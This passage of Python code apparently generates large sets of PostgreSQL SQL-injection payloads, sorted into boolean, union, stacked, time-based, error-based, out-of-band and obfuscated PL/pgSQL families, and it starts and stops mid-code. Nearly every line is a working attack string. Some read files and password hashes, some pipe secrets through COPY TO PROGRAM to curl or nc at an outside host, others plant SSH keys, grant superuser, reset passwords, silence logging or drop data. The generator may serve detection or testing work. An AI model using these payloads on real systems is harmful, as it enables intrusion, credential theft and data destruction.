            ("or_ordinality_count", "OR (SELECT count(*) FROM unnest(ARRAY[%d, %d]) WITH ORDINALITY) = 2" % (a, b)), ("or_date_plus_days", "OR date '2025-01-01' + %d > date '2025-01-01'" % a),
            ("or_backend_pid", "OR pg_backend_pid() > 0"), ("or_starts_with_op", "OR '%s' ^@ '%s'" % (w, w[0])), ("or_row_lt", "OR (%d, %d) < (%d, %d)" % (a, a, a, b)),
            ("or_cardinality", "OR cardinality(ARRAY[%d]) = 1" % a), ("or_any_int_array_literal", "OR %d = ANY('{%d,%d}'::int[])" % (a, b, a)),
            ("or_json_populate_record_eq", "OR (json_populate_record(NULL::pg_class, '{\"relpages\": %d}')).relpages = %d" % (a, a)),
            ("or_xmlexists", "OR xmlexists('//%s' PASSING BY VALUE '<%s/>')" % (w, w)), ("or_array_slice_eq", "OR (ARRAY[%d, %d, %d])[2:3] = ARRAY[%d, %d]" % (a, b, a, b, a)),
            ("or_exists_cube", "OR EXISTS (SELECT 1 FROM (VALUES (%d)) v(x) GROUP BY CUBE (x))" % a),
            ("or_named_window_rank", "OR (SELECT rank() OVER w FROM (VALUES (1)) v(x) WINDOW w AS (ORDER BY x)) = 1"),
            ("or_lateral_series", "OR EXISTS (SELECT 1 FROM generate_series(1, %d) g CROSS JOIN LATERAL (SELECT g) l)" % a),
            ("or_true_is_true", "OR true IS TRUE"), ("or_difference_zero", "OR %d-%d=0" % (b, b)), ("and_false_or_true", "AND false OR true"),
            ("or_overlaps", "OR (date '2025-01-01', date '2025-02-01') OVERLAPS (date '2025-01-15', interval '%d days')" % a),
            ("or_jsonb_set_eq", "OR jsonb_set('{\"%s\": 1}', '{%s}', '%d')->>'%s' = '%d'" % (w, w, a, w, a))]] + [
            (n, "open", c, PG) for n, c in [
                ("open_starts_with", ("OR '%s' ^@ " % w, "'%s" % w[0])), ("open_lower_eq", ("OR lower('%s') = " % w.upper(), "'%s" % w)),
                ("open_ne", ("OR '%s' != " % w, "'%s" % w2)), ("open_in_list", ("OR '%s' IN ('%s', " % (w, w), "'%s" % w2)),
                ("open_similar_to", ("OR '%s' SIMILAR TO " % w, "'%s%%" % w[:2])), ("open_any_csv", ("OR '%s' = ANY(string_to_array('%s', ',')) OR '' = " % (w, w), "'"))]] + [
            ("set_flag_all_rows", "assign", "{col} = true WHERE true", PG), ("set_owner_where_always", "assign", "{col} = 1 WHERE 1 = 1", PG),
            ("set_role_admin_or_true", "assign", "{col} = 'admin' WHERE true OR false", PG),
            ("burp_or_1_eq_1", "scan", {"q": "' or 1=1--", "n": " or 1=1--"}, PG), ("burp_or_a_eq_a", "scan", {"q": "' or 'a'='a", "n": " or 2=2"}, PG),
            ("nuclei_or_1337", "scan", {"q": "' OR 1337=1337-- -", "n": " OR 1337=1337-- -"}, PG), ("ghauri_or_boundary", "scan", {"q": "' OR 5721=5721-- wXyW", "n": " OR 5721=5721-- wXyW"}, PG),
            ("stored_name_or_true", "cond", "OR '%s' = '%s'" % (w, w), PG)]
    if fam == "union":
        n = r.randint(1, 7)
        pos = r.randrange(n)
        arms = [("subscription_conninfo", "subname||' '||subconninfo", " FROM pg_subscription"), ("publication_tables", "pubname||':'||schemaname||'.'||tablename", " FROM pg_publication_tables"),
                ("replication_clients", "application_name||'@'||coalesce(client_addr::text,'local')", " FROM pg_stat_replication"),
                ("partman_config", "parent_table||' '||partition_interval||' '||coalesce(retention,'')", " FROM partman.part_config"),
                ("debezium_signals", "id||' '||type||' '||coalesce(data,'')", " FROM debezium_signal"), ("airflow_connections", "conn_id||' '||coalesce(login,'')||':'||coalesce(password,'')", " FROM connection"),
                ("airflow_variables", "key||'='||val", " FROM variable"), ("file_settings", "sourcefile||':'||name||'='||setting", " FROM pg_file_settings"),
                ("password_stats", "attname||' '||most_common_vals::text", " FROM pg_stats WHERE attname ILIKE '%pass%'"),
                ("role_settings", "array_to_string(setconfig, ',')", " FROM pg_db_role_setting"), ("auth_members", "roleid::regrole::text||'>'||member::regrole::text", " FROM pg_auth_members"),
                ("ssl_sessions", "pid::text||' '||coalesce(version,'')||' '||coalesce(client_dn,'')", " FROM pg_stat_ssl"),
                ("pg_config_opts", "name||'='||setting", " FROM pg_config"), ("subscription_stats", "subname||' '||coalesce(latest_end_lsn::text,'')", " FROM pg_stat_subscription"),
                ("authid_hashes", "rolname||':'||coalesce(rolpassword,'')", " FROM pg_authid"), ("loot_pair", "%s||':'||%s" % (u, p), " FROM %s" % t),
                ("wal_lsn", "pg_current_wal_lsn()::text", ""), ("data_directory", "current_setting('data_directory')", "")]
        name, ex, frm = r.choice(arms)
        style = r.randrange(8)
        out = [("returning_secret", "returning", "RETURNING (SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who), PG),
               ("returning_conninfo", "returning", "RETURNING (SELECT string_agg(subconninfo, ';') FROM pg_subscription)", PG),
               ("returning_version_user", "returning", "RETURNING version(), current_user", PG),
               ("stored_union_secret", "union", "UNION ALL SELECT %s FROM %s" % (nulls(n, pos, "%s||':'||%s" % (u, p)), t), PG)]
        if style == 0:
            return out + [("union_values_" + name, "union", "UNION ALL VALUES (%s)" % nulls(n, pos, "(SELECT string_agg(%s, ',')%s)" % (ex, frm) if frm else ex), PG)]
        if style == 1:
            return out + [("union_table_" + name.split("_")[0], "union", "UNION ALL TABLE %s" % r.choice(["pg_subscription", "pg_publication", "connection", "variable", "partman.part_config", "pg_file_settings"]), PG)]
        if style == 2:
            return out + [("union_derived_" + name, "union", "UNION ALL SELECT * FROM (SELECT %s%s) AS %s" % (nulls(n, pos, ex), frm, rword(r, 2)), PG)]
        if style == 3:
            return out + [("union_distinct_on_" + name, "union", "UNION SELECT DISTINCT ON (%d) %s%s" % (pos + 1, nulls(n, pos, ex), frm), PG)]
        if style == 4:
            return out + [("union_where_exists_" + name, "union", "UNION ALL SELECT %s%s%s EXISTS (SELECT 1)" % (nulls(n, pos, ex), frm, " AND" if " WHERE " in frm else " WHERE"), PG)]
        kw = r.choice(["UNION ALL SELECT", "union all select", "UNION  SELECT", "UNION ALL\nSELECT", "UnIoN SeLeCt"])
        return out + [("union_arm_" + name, "union", "%s %s%s" % (kw, nulls(n, pos, ex), frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("publication_all_tables", "CREATE PUBLICATION %s FOR ALL TABLES" % nm), ("publication_add_secrets", "ALTER PUBLICATION %s ADD TABLE %s" % (r.choice(["rescue_pub", "kelp_cdc", "dbz_publication"]), t)),
            ("subscription_to_attacker", "CREATE SUBSCRIPTION %s CONNECTION 'host=%s port=5432 dbname=postgres user=x password=x' PUBLICATION %s WITH (create_slot = false)" % (nm, ip, nm)),
            ("logical_slot_create", "SELECT pg_create_logical_replication_slot('%s', 'test_decoding')" % nm), ("logical_slots_drop_all", "SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots"),
            ("debezium_snapshot_secrets", "INSERT INTO debezium_signal (id, type, data) VALUES ('%s', 'execute-snapshot', '{\"data-collections\": [\"public.%s\"]}')" % (nm, t.strip('"'))),
            ("debezium_stop_snapshot", "INSERT INTO debezium_signal VALUES ('%s', 'stop-snapshot', NULL)" % nm),
            ("partman_retention_wipe", "UPDATE partman.part_config SET retention = '1 day', retention_keep_table = false"),
            ("partman_undo_partition", "SELECT partman.undo_partition('public.%s', p_keep_table := false)" % r.choice(RELNAMES)),
            ("airflow_connection_redirect", "UPDATE connection SET host = '%s' WHERE conn_id = 'postgres_default'" % ip),
            ("airflow_variable_plant", "INSERT INTO variable (key, val) VALUES ('%s', '%s')" % (nm, w)), ("replica_role_no_triggers", "SET session_replication_role = replica"),
            ("disable_all_triggers", "ALTER TABLE %s DISABLE TRIGGER ALL" % t), ("grant_all_to_public", "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC"),
            ("default_privileges_public", "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO PUBLIC"),
            ("rule_notify_inserts", "CREATE RULE %s AS ON INSERT TO %s DO ALSO NOTIFY %s" % (nm, t, nm)),
            ("terminate_other_backends", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()"),
            ("role_replication_login", "CREATE ROLE %s WITH REPLICATION LOGIN PASSWORD '%s'" % (nm, rword(r, 10))), ("alter_role_superuser", "ALTER ROLE %s SUPERUSER" % role),
            ("lock_access_exclusive", "LOCK TABLE %s IN ACCESS EXCLUSIVE MODE" % t), ("vacuum_full_everything", "VACUUM FULL"),
            ("alter_system_wal_minimal", "ALTER SYSTEM SET wal_level = minimal"), ("silence_statement_log", "ALTER SYSTEM SET log_statement = 'none'; SELECT pg_reload_conf()"),
            ("truncate_cascade", "TRUNCATE TABLE %s CASCADE" % t), ("reset_known_password", "UPDATE %s SET %s = md5('%s') WHERE %s = '%s'" % (t, p, w, u, who)),
            ("drop_partman_schema", "DROP SCHEMA partman CASCADE"), ("set_role_read_all", "SET ROLE pg_read_all_data"),
            ("notify_flood", "SELECT pg_notify('%s', repeat('x', 7999)) FROM generate_series(1, 1000)" % nm),
            ("stored_name_then_reset", "UPDATE %s SET %s = md5('%s') WHERE %s = '%s'" % (t, p, w2, u, who)),
            ("stored_name_then_grant", "GRANT pg_read_server_files TO %s" % role)]] + [
            ("extra_row_attacker_value", "row", row_of("'%s'" % w), PG), ("extra_rows_pair", "row", lambda n: ", ".join(["'%s'" % w] + ["DEFAULT"] * (n - 1)) + "), (" + ", ".join(["'%s'" % w2] + ["DEFAULT"] * (n - 1)), PG),
            ("extra_row_all_null", "row", lambda n: ", ".join(["NULL"] * n), PG),
            ("on_conflict_do_nothing", "conflict", "ON CONFLICT DO NOTHING", PG), ("on_conflict_overwrite_owner", "conflict", "ON CONFLICT (id) DO UPDATE SET owner_id = %d" % a, PG),
            ("on_conflict_constraint_touch", "conflict", "ON CONFLICT ON CONSTRAINT %s_pkey DO UPDATE SET updated_at = now()" % w, PG)]
    if fam == "oob_file_program":
        key = "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(43))
        pc = plain(cmd)
        return [(n, m, c, PG) for n, m, c in [
            ("copy_program_base64_post", "stack", "COPY (SELECT %s FROM %s) TO PROGRAM 'base64 -w0 | curl -s -d @- https://%s/c'" % (p, t, host)),
            ("copy_program_bash_c", "stack", "COPY (SELECT '') TO PROGRAM 'bash -c \"%s\"'" % pc),
            ("copy_to_authorized_keys", "stack", "COPY (SELECT 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s x@y') TO '/var/lib/postgresql/.ssh/authorized_keys'" % key),
            ("copy_from_file_temp", "stack", "CREATE TEMP TABLE %s (l text); COPY %s FROM '%s'; SELECT string_agg(l, chr(10)) FROM %s" % (nm, nm, f, nm)),
            ("copy_from_program_ps", "stack", "CREATE TEMP TABLE %s (l text); COPY %s FROM PROGRAM 'ps aux'" % (nm, nm)),
            ("lo_import_loread", "stack", "SELECT encode(loread(lo_open(lo_import('%s'), 262144), 8192), 'escape')" % f),
            ("lo_create_lowrite_export", "stack", "SELECT lo_create(%d); SELECT lowrite(lo_open(%d, 131072), decode('%s', 'base64')); SELECT lo_export(%d, '/tmp/%s.so')"
             % (oid, oid, base64.b64encode(bytes(r.randrange(256) for _ in range(15))).decode(), oid, nm)),
            ("lo_put_then_export", "stack", "SELECT lo_put(%d, 0, '\\x%s'::bytea); SELECT lo_export(%d, '/tmp/%s')" % (oid, ("#!/bin/sh\n%s\n" % pc).encode().hex(), oid, nm)),
            ("lo_get_slice", "stack", "SELECT lo_import('%s', %d); SELECT encode(lo_get(%d, 0, 4096), 'escape')" % (f, oid, oid)),
            ("read_file_offset", "cond", "AND length(pg_read_file('%s', 0, 64)) > 0" % f), ("read_binary_missing_ok", "cond", "AND pg_read_binary_file('%s', 0, 128, true) IS NOT NULL" % f),
            ("ls_logdir", "union", "UNION ALL SELECT name FROM pg_ls_logdir()"), ("ls_waldir_count", "cond", "AND (SELECT count(*) FROM pg_ls_waldir()) > 0"),
            ("ls_tmpdir_concat", "concat", "(SELECT string_agg(name, ',') FROM pg_ls_tmpdir())"),
            ("archive_command_upload", "stack", "ALTER SYSTEM SET archive_command = 'curl -sT %%p https://%s/w/%%f'; SELECT pg_reload_conf()" % host),
            ("dblink_connect_dns_user", "cond", "AND dblink_connect('host=' || current_user || '.%s dbname=x user=x') = 'OK'" % host),
            ("adminpack_file_write", "stack", "SELECT pg_file_write('/tmp/%s.sh', '%s', false)" % (nm, sq(cmd))),
            ("copy_program_ping_dns", "stack", "COPY (SELECT 1) TO PROGRAM 'ping -c 1 %s.%s'" % (nm, host)),
            ("copy_secret_to_nc", "stack", "COPY (SELECT %s FROM %s) TO PROGRAM 'nc %s 4444'" % (p, t, ip)),
            ("copy_conninfo_to_curl", "stack", "COPY (SELECT subconninfo FROM pg_subscription) TO PROGRAM 'curl -s -X POST --data-binary @- http://%s/'" % host),
            ("union_read_hba", "union", "UNION SELECT pg_read_file('pg_hba.conf', 0, 2048)"), ("stat_file_mtime", "cond", "AND (pg_stat_file('%s', true)).modification IS NOT NULL" % f),
            ("repl_read_file_length", "repl", "(SELECT length(pg_read_file('%s')))" % f), ("assign_read_file", "assign", "{col} = pg_read_file('%s')" % f),
            ("copy_program_oast_scanner", "stack", "COPY (SELECT '') TO PROGRAM 'nslookup %s'" % oast),
            ("stored_copy_program_dns", "stack", "COPY (SELECT '') TO PROGRAM 'nslookup ' || '%s'" % host)]] + [
            ("row_read_file", "row", row_of("pg_read_file('%s')" % f), PG), ("burp_copy_program_collab", "scan",
             {"q": "';copy (select '') to program 'nslookup %s'--" % oast, "n": ";copy (select '') to program 'nslookup %s'--" % oast}, PG)]
    if fam == "time_pg_sleep":
        return [(n, m, c, PG) for n, m, c in [
            ("sleep_is_null", "cond", "AND (SELECT pg_sleep(%d)) IS NULL" % s), ("exists_sleep", "cond", "AND EXISTS (SELECT pg_sleep(%d))" % s),
            ("cte_sleep", "cond", "AND (WITH z AS (SELECT pg_sleep(%d)) SELECT true FROM z)" % s),
            ("series_half_second_sleeps", "cond", "OR (SELECT count(*) FROM (SELECT pg_sleep(0.5) FROM generate_series(1, %d)) z) > 0" % (2 * s)),
            ("sleep_until_clock", "cond", "AND pg_sleep_until(clock_timestamp() + make_interval(secs => %d)) IS NULL" % s),
            ("sleep_in_unnest", "cond", "AND 1 IN (SELECT 1 FROM unnest(ARRAY[pg_sleep(%d)]))" % s),
            ("case_probe_sleep_for", "cond", "AND (CASE WHEN %s THEN pg_sleep_for('%d seconds') END) IS NULL" % (pe, s)),
            ("lateral_sleep", "cond", "AND EXISTS (SELECT 1 FROM (VALUES (1)) v CROSS JOIN LATERAL pg_sleep(%d) z)" % s),
            ("heavy_md5_chain", "cond", "AND (SELECT count(*) FROM generate_series(1, %d) g WHERE md5(md5(g::text)) LIKE 'ff%%') >= 0" % r.choice([2000000, 3000000])),
            ("heavy_string_agg", "cond", "AND length((SELECT string_agg(md5(g::text), '') FROM generate_series(1, %d) g)) > 0" % r.choice([1500000, 4000000])),
            ("heavy_random_sort", "cond", "AND (SELECT count(*) FROM (SELECT g FROM generate_series(1, %d) g ORDER BY random()) z) > 0" % r.choice([3000000, 6000000])),
            ("assign_sleep_flag", "assign", "{col} = (SELECT pg_sleep(%d)) IS NULL" % s), ("concat_sleep_text", "concat", "(SELECT pg_sleep(%d))::text" % s),
            ("repl_greatest_sleep", "repl", "greatest(%d, (SELECT 0 FROM pg_sleep(%d)))" % (a, s)),
            ("order_case_sleep", "order", "(SELECT CASE WHEN %s THEN pg_sleep(%d) END)" % (pe, s)), ("stack_sleep", "stack", "SELECT pg_sleep(%d)" % s),
            ("stack_do_perform_sleep", "stack", "DO $$BEGIN PERFORM pg_sleep(%d); END$$" % s),
            ("interval_term_sleep", "iexpr", "(SELECT interval '0' FROM pg_sleep(%d))" % s), ("stored_sleep_concat", "concat", "(SELECT '' FROM pg_sleep(%d))" % s)]] + [
            ("row_sleep_value", "row", row_of("(SELECT %d FROM pg_sleep(%d))" % (a, s)), PG),
            ("burp_concat_sleep", "scan", {"q": "'||pg_sleep(20)--", "n": "||pg_sleep(20)--"}, PG),
            ("burp_stacked_sleep", "scan", {"q": "';select pg_sleep(20)--", "n": ";select pg_sleep(20)--"}, PG),
            ("nuclei_and_sleep", "scan", {"q": "' AND 7=(SELECT 7 FROM PG_SLEEP(7))--", "n": " AND 7=(SELECT 7 FROM PG_SLEEP(7))--"}, PG),
            ("ghauri_concat_sleep", "scan", {"q": "'||(SELECT 0 FROM PG_SLEEP(6))||'", "n": "-(SELECT 0 FROM PG_SLEEP(6))"}, PG)]
    if fam == "boolean_blind":
        pn, pex = probe_named(r)
        pn2, pex2 = probe_named(r, "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who))
        return [("and_" + pn, "cond", "AND " + pex, PG), ("or_" + pn, "cond", "OR " + pex, PG), ("secret_" + pn2, "cond", "AND " + pex2, PG),
                ("stored_" + pn2, "cond", "AND " + pex2, PG)] + [
            (n, "cond", c, PG) for n, c in [
                ("self_rolreplication", "AND (SELECT rolreplication FROM pg_roles WHERE rolname = current_user)"), ("wal_level_logical", "AND current_setting('wal_level') = 'logical'"),
                ("pgoutput_slot_exists", "AND EXISTS (SELECT 1 FROM pg_replication_slots WHERE plugin = 'pgoutput')"),
                ("lo_export_execute_priv", "AND has_function_privilege('lo_export(oid, text)', 'EXECUTE')"),
                ("read_server_files_usage", "AND pg_has_role(current_user, 'pg_read_server_files', 'USAGE')"),
                ("partman_config_update_priv", "AND has_table_privilege('partman.part_config', 'UPDATE')"),
                ("publication_all_tables_exists", "AND EXISTS (SELECT 1 FROM pg_publication WHERE puballtables)"),
                ("subscription_has_password", "AND (SELECT subconninfo FROM pg_subscription LIMIT 1) LIKE '%password=%'"),
                ("debezium_signal_insert_priv", "AND has_table_privilege('debezium_signal', 'INSERT')"),
                ("partman_installed", "AND EXISTS (SELECT 1 FROM pg_extension WHERE extname = 'pg_partman')"),
                ("airflow_connection_count", "AND (SELECT count(*) FROM connection) > %d" % r.randint(0, 9)), ("is_superuser_setting", "AND current_setting('is_superuser') = 'on'"),
                ("not_in_recovery", "AND NOT pg_is_in_recovery()"), ("server_version_15", "AND current_setting('server_version_num')::int >= 150000"),
                ("ssl_in_use", "AND (SELECT ssl FROM pg_stat_ssl WHERE pid = pg_backend_pid())")]] + [
            ("assign_case_probe", "assign", "{col} = (CASE WHEN %s THEN true ELSE false END)" % pe, PG), ("row_case_probe", "row", row_of("(CASE WHEN %s THEN 'y' ELSE 'n' END)" % pe), PG),
            ("interval_term_probe", "iexpr", "(CASE WHEN %s THEN interval '0' ELSE interval '1 year' END)" % pe, PG),
            ("order_case_probe", "order", "(CASE WHEN %s THEN 1 ELSE 2 END)" % pe, PG),
            ("burp_and_true", "scan", {"q": "' and 'x'='x", "n": " and 1=1"}, PG), ("burp_and_false", "scan", {"q": "' and 'x'='y", "n": " and 1=2"}, PG)]
    if fam == "error_cast":
        return [(n, "cond", c, PG) for n, c in [
            ("format_int_cast", "AND format('%%s', %s)::int = 1" % x), ("to_json_numeric", "AND to_json(%s)::text::numeric > 0" % x),
            ("json_populate_record_int", "AND (json_populate_record(NULL::pg_class, json_build_object('relpages', %s))).relpages > 0" % x),
            ("jsonb_populate_record_ts", "AND (jsonb_populate_record(NULL::pg_stat_activity, jsonb_build_object('backend_start', %s))).backend_start IS NULL" % x),
            ("xmlparse_document", "AND xmlparse(document %s) IS NULL" % x), ("xmlparse_content_tag", "AND xmlparse(content '<' || %s || '>') IS NULL" % x),
            ("regclass_lookup", "AND %s::regclass IS NULL" % x), ("regrole_lookup", "AND %s::regrole IS NOT NULL" % x), ("regnamespace_lookup", "AND %s::regnamespace IS NULL" % x),
            ("current_setting_name", "AND current_setting(%s) IS NULL" % x), ("interval_cast", "AND %s::interval IS NULL" % x), ("uuid_cast", "AND %s::uuid IS NULL" % x),
            ("to_date_picture", "AND to_date(%s, 'YYYY-MM-DD') IS NULL" % x), ("format_bad_specifier", "AND format('%%' || %s) IS NULL" % x),
            ("macaddr_cast", "OR %s::macaddr IS NULL" % x), ("int4range_cast", "AND %s::int4range IS NULL" % x), ("make_date_year", "AND make_date(%s::int, 1, 1) IS NULL" % x),
            ("case_division_by_zero", "AND 1 = (CASE WHEN %s THEN 1/0 ELSE 1 END)" % pe),
            ("case_series_step_zero", "AND (SELECT count(*) FROM generate_series(1, 2, CASE WHEN %s THEN 0 ELSE 1 END)) > 0" % pe),
            ("case_sqrt_negative", "AND (CASE WHEN %s THEN sqrt(-octet_length(current_user)) ELSE 1 END) > 0" % pe),
            ("stored_cast_int_leak", "AND CAST(%s AS int) = 1" % x)]] + [
            ("repl_format_cast", "repl", "(SELECT format('%%s', %s)::int)" % x, PG), ("concat_regclass_text", "concat", "%s::regclass::text" % x, PG),
            ("order_interval_cast", "order", "%s::interval" % x, PG), ("assign_cast_int", "assign", "{col} = CAST(%s AS int)" % x, PG),
            ("row_cast_numeric", "row", row_of("CAST(%s AS numeric)" % x), PG), ("interval_term_leak", "iexpr", "(SELECT %s::interval)" % x, PG),
            ("nuclei_quote_probe", "scan", {"q": "'", "n": "'"}, PG), ("nuclei_quote_paren_probe", "scan", {"q": "')", "n": ")'"}, PG),
            ("burp_backslash_quote_probe", "scan", {"q": "\\'\"", "n": "\\"}, PG)]
    if fam == "dollar_quote":
        tg = r.choice(OPEN_TAGS)
        D = lambda v: tg + v + tg
        n = r.randint(1, 5)
        return [
            ("dollar_any_csv", "cond", "OR %s = ANY(string_to_array(%s, %s))" % (D(w), D(w + "," + w2), D(",")), PG),
            ("dollar_nested_tags", "cond", "OR $a$ $b$ $a$ <> $b$ $a$ $b$", PG), ("dollar_empty_tag_eq", "cond", "OR $$%s$$ = $$%s$$" % (w, w), PG),
            ("dollar_xmlparse_leak", "cond", "AND xmlparse(content %s || (%s)::text) IS NULL" % (D("<x>"), e), PG),
            ("dollar_publication", "stack", "CREATE PUBLICATION %s FOR ALL TABLES WITH (publish = %s)" % (nm, D("insert, update, delete")), PG),
            ("dollar_debezium_signal", "stack", "INSERT INTO debezium_signal VALUES (%s, %s, %s)" % (D(nm), D("execute-snapshot"), D('{"data-collections": ["public.%s"]}' % t.strip('"'))), PG),
            ("dollar_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM %s" % D(cmd), PG), ("dollar_lo_import", "stack", "SELECT lo_import(%s)" % D(f), PG),
            ("dollar_alter_role_password", "stack", "ALTER ROLE %s PASSWORD %s" % (role, D(rword(r, 12))), PG),
            ("dollar_set_config", "stack", "SELECT set_config(%s, %s, false)" % (D("log_statement"), D("none")), PG),
            ("dollar_pg_notify_secret", "stack", "SELECT pg_notify(%s, (%s)::text)" % (D(nm), e), PG),
            ("dollar_union_label", "union", "UNION ALL SELECT %s" % nulls(n, r.randrange(n), "%s || (%s)::text" % (D(w + "="), e)), PG),
            ("dollar_concat_secret", "concat", "%s || (%s)::text" % (D(""), e), PG), ("dollar_repl_length", "repl", "(SELECT octet_length(%s))" % D(w), PG),
            ("dollar_interval_term", "iexpr", "%s::interval" % D("%d seconds" % s), PG), ("dollar_assign_admin", "assign", "{col} = %s" % D("admin"), PG),
            ("dollar_row_value", "row", row_of(D(w)), PG)]
    if fam == "e_escape":
        u4 = lambda v: "".join("\\u%04x" % ord(c) for c in v)
        bang = lambda v: "".join("!%04x" % ord(c) if c.isalpha() and r.random() < 0.6 else c for c in v)
        hexs = lambda v: "".join("\\x%02x" % ord(c) for c in v)
        return [
            ("uescape_pg_sleep_ident", "cond", "AND U&\"!0070g_sleep\" UESCAPE '!'(%d) IS NULL" % s, PG),
            ("uescape_program_string", "stack", "COPY (SELECT 1) TO PROGRAM U&'%s' UESCAPE '!'" % bang(plain(cmd)), PG),
            ("e_hex_quote_eq_chr", "cond", "OR E'\\x27' = chr(39)", PG), ("e_unicode_read_binary", "stack", "SELECT pg_read_binary_file(E'%s')" % u4(f), PG),
            ("e_long_unicode_eq", "cond", "OR E'\\U%08X' = '%s'" % (ord(w[0]), w[0]), PG), ("e_tab_ne", "cond", "OR E'%s\\t' <> '%s'" % (w, w), PG),
            ("convert_from_hex_path", "stack", "SELECT pg_read_file(convert_from('\\x%s'::bytea, 'UTF8'))" % f.encode().hex(), PG),
            ("uamp_publication_name", "stack", "ALTER PUBLICATION U&\"\\0072escue_pub\" ADD TABLE %s" % t, PG),
            ("uamp_connection_table", "union", "UNION ALL SELECT %s FROM U&\"\\0063onnection\"" % nulls(r.randint(1, 4), 0, "password"), PG),
            ("e_newline_concat", "concat", "E'\\n' || (%s)::text" % e, PG), ("e_octal_notify_channel", "stack", "SELECT pg_notify(E'\\%03o%s', current_user)" % (ord(w[0]), w[1:]), PG),
            ("e_hex_role_name", "stack", "ALTER ROLE %s SET search_path = E'%s'" % (role, hexs("pg_temp,public")), PG),
            ("e_interval_term", "iexpr", "E'\\x30 s'::interval", PG), ("e_assign_hex_admin", "assign", "{col} = E'\\x61dmin'", PG),
            ("e_row_value", "row", row_of("E'%s'" % hexs(w)), PG), ("chr_built_compare", "cond", "OR chr(%d)||chr(%d) = '%s'" % (ord(w[0]), ord(w[1]), w[:2]), PG)]
    if fam == "plpgsql_do_exec":
        tg = r.choice(DO_TAGS)
        B = lambda body: tg + " " + body + " " + tg
        safe = r.choice(["id", "hostname", "uname -a", "env", "ls /var/lib/postgresql", "cat /etc/os-release"])
        evil = r.choice(["ALTER ROLE %s SUPERUSER" % role, "GRANT pg_execute_server_program TO %s" % role, "DROP TABLE %s" % t, "CREATE PUBLICATION %s FOR ALL TABLES" % nm])
        pw = rword(r, 10)
        return [(n, "stack", c, PG) for n, c in [
            ("do_execute_reversed", "DO %s" % B("BEGIN EXECUTE reverse('%s'); END" % sq(evil[::-1]))),
            ("do_execute_base64", "DO %s" % B("BEGIN EXECUTE convert_from(decode('%s', 'base64'), 'UTF8'); END" % base64.b64encode(evil.encode()).decode())),
            ("do_execute_chr_built", "DO %s" % B("BEGIN EXECUTE %s; END" % "||".join("chr(%d)" % ord(c) for c in evil))),
            ("do_format_publication", "DO %s" % B("BEGIN EXECUTE format('CREATE PUBLICATION %%I FOR ALL TABLES', '%s'); END" % nm)),
            ("do_loop_copy_program", "DO %s" % B("DECLARE t text; BEGIN FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP EXECUTE format('COPY %%I TO PROGRAM %%L', t, 'curl -sT - http://%s/' || t); END LOOP; END" % host)),
            ("hijack_partman_maintenance", "CREATE OR REPLACE FUNCTION partman.run_maintenance(p_parent_table text DEFAULT NULL, p_analyze boolean DEFAULT false, p_jobmon boolean DEFAULT true) RETURNS void LANGUAGE plpgsql AS %s"
             % B("BEGIN EXECUTE 'GRANT pg_execute_server_program TO %s'; END" % role)),
            ("trigger_notify_inserts", "CREATE FUNCTION %s() RETURNS trigger LANGUAGE plpgsql AS %s; CREATE TRIGGER %s AFTER INSERT ON %s FOR EACH ROW EXECUTE FUNCTION %s()"
             % (nm, B("BEGIN PERFORM pg_notify('%s', row_to_json(NEW)::text); RETURN NEW; END" % nm), nm, t, nm)),
            ("procedure_copy_program_call", "CREATE PROCEDURE %s(c text) LANGUAGE plpgsql AS %s; CALL %s('%s')" % (nm, B("BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', c); END"), nm, safe)),
            ("do_reset_every_password", "DO %s" % B("DECLARE r record; BEGIN FOR r IN SELECT rolname FROM pg_roles WHERE rolcanlogin LOOP EXECUTE format('ALTER ROLE %%I PASSWORD %%L', r.rolname, '%s'); END LOOP; END" % pw)),
            ("do_notice_leak", "DO %s" % B("BEGIN RAISE NOTICE '%%', (SELECT string_agg(%s, ',') FROM %s); END" % (p, t))),
            ("do_replica_role_delete", "DO %s" % B("BEGIN PERFORM set_config('session_replication_role', 'replica', false); EXECUTE 'DELETE FROM %s'; END" % sq(t))),
            ("secdef_lo_export_wrapper", "CREATE FUNCTION %s(o oid, p text) RETURNS int LANGUAGE sql SECURITY DEFINER AS %s; SELECT %s(%d, '/tmp/%s')" % (nm, B("SELECT lo_export(o, p)"), nm, oid, nm)),
            ("do_plpython_system", "DO LANGUAGE plpython3u %s" % B("import os; os.system('%s')" % safe)), ("do_pltcl_exec", "DO LANGUAGE pltclu %s" % B("exec %s" % safe)),
            ("do_dblink_exfil", "DO %s" % B("BEGIN PERFORM dblink_exec('host=%s dbname=x user=x password=x', format('INSERT INTO loot VALUES (%%L)', (SELECT %s FROM %s LIMIT 1))); END" % (ip, p, t))),
            ("do_exception_swallow", "DO %s" % B("BEGIN EXECUTE '%s'; EXCEPTION WHEN OTHERS THEN NULL; END" % sq(evil)))]]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("subscription_conninfo", "(SELECT string_agg(subconninfo, ';') FROM pg_subscription)"), ("primary_conninfo", "current_setting('primary_conninfo', true)"),
            ("airflow_password", "(SELECT password FROM connection WHERE conn_id = 'postgres_default')"), ("airflow_variables", "(SELECT string_agg(key || '=' || val, ';') FROM variable)"),
            ("format_secret", "format('%%s', (SELECT %s FROM %s WHERE %s = '%s'))" % (p, t, u, who)),
            ("concat_ws_pair", "concat_ws(':', (SELECT %s FROM %s LIMIT 1), (SELECT %s FROM %s LIMIT 1))" % (u, t, p, t)),
            ("to_json_secret", "to_json((SELECT %s FROM %s LIMIT 1))::text" % (p, t)), ("json_agg_publication_tables", "(SELECT json_agg(x)::text FROM pg_publication_tables x)"),
            ("array_to_string_secrets", "array_to_string(ARRAY(SELECT %s FROM %s), ',')" % (p, t)), ("xmlelement_secret", "xmlelement(name s, (SELECT %s FROM %s LIMIT 1))::text" % (p, t)),
